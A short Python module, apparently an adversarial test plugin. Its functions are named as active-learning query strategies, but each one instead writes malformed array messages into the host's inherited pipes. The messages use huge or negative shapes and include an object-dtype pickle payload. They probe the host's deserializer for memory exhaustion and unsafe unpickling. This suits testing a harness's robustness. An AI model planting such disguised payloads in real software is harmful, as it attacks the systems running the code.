"""Writes arrays whose shapes are not those of their contents, or have an axis without end."""

import json
import os
import stat


def pipes():
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.write(number, b"")
                yield number
        except OSError:
            pass


def send(data):
    for number in pipes():
        try:
            while data:
                data = data[os.write(number, data) :]
        except OSError:
            pass


def attack(probabilities):
    for shape, content in (
        ([10**18, 0], ""),
        ([0, 10**18], ""),
        ([-1], ""),
        ([2**62, 4], ""),
        ("6", "AAAA"),
        ([1] * 99, "AAAAAAAAAAA="),
    ):
        send(json.dumps({"values": [{"$array": content, "type": "<f8", "shape": shape}]}).encode() + b"\n")
    send(b'{"values": [{"$array": "gASVCAAAAAAAAACMBHRlc3SULg==", "type": "O", "shape": [1]}]}\n')
    return None


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
